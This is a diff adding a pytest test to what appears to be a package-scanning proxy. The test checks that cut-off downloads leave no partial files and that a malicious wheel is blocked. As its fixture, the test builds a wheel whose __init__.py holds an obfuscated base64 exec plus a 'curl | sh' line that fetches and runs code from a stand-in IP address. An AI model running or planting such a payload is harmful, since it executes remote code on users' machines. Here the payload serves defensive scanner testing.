@@ -105,3 +105,51 @@ def test_concurrent_requests_share_one_fetch_and_tampered_file_is_refused(tmp_pa
     finally:
         server.stop()
         upstream.stop()
+
+
+@pytest.mark.parametrize("streams", ["1", "0"])
+def test_cut_download_and_trickled_malware_while_scanning_as_bytes_arrive(
+    tmp_path: Path, streams: str
+) -> None:
+    # PYCUSTOMS_STREAM_SCANS=1 scans wheels as they download, 0 after: same answers.
+    upstream = SlowUpstream(tmp_path / "up")
+    wheel = _big_wheel(tmp_path)
+    upstream.add_file("bigpkg", "1.0", wheel.name, wheel.read_bytes(), uploaded=OLD)
+    payload = (
+        "import base64, os\n"
+        "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"
+        "os.system('curl -s http://198.51.100.9/p | sh')\n"
+    )
+    bad = build_wheel(
+        tmp_path,
+        "trickled",
+        "1.0",
+        {"trickled/data.bin": os.urandom(3 << 20), "trickled/__init__.py": payload},
+    )
+    upstream.add_file("trickled", "1.0", bad.name, bad.read_bytes(), uploaded=OLD)
+    upstream.start()
+    data = tmp_path / "data"
+    env = {"PYCUSTOMS_PRESCAN": "0", "PYCUSTOMS_STREAM_SCANS": streams}
+    server = ServerProcess(upstream.url, data, env=env)
+    try:
+        url = _file_url(server, "bigpkg")
+        SlowUpstream.cut_after = 3 << 20
+        started = time.monotonic()
+        cut = httpx.get(url, timeout=120)
+        assert cut.status_code == 502, cut.text
+        assert cut.json()["rule"] == "policy/fetch-failed"
+        assert time.monotonic() - started < 60
+        assert _blobs(data) == []
+        assert list((data / "store" / "tmp").iterdir()) == []  # no partial file, link or marker
+        SlowUpstream.cut_after = None
+        whole = httpx.get(url, timeout=120)
+        assert whole.status_code == 200
+        assert whole.content == wheel.read_bytes()
+        refused = httpx.get(_file_url(server, "trickled"), timeout=120)
+        assert refused.status_code == 403
+        assert refused.json()["rule"] == "policy/scan-blocked"
+        assert hashlib.sha256(wheel.read_bytes()).hexdigest() in {p.name for p in _blobs(data)}
+    finally:
+        SlowUpstream.cut_after = None
+        server.stop()
+        upstream.stop()
